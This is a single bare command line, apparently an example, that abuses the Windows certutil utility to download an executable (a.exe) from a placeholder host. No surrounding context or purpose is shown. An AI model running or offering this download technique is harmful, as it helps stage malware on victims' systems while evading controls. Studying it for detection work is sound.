certutil -urlcache -split -f http://x.example.org/a a.exe
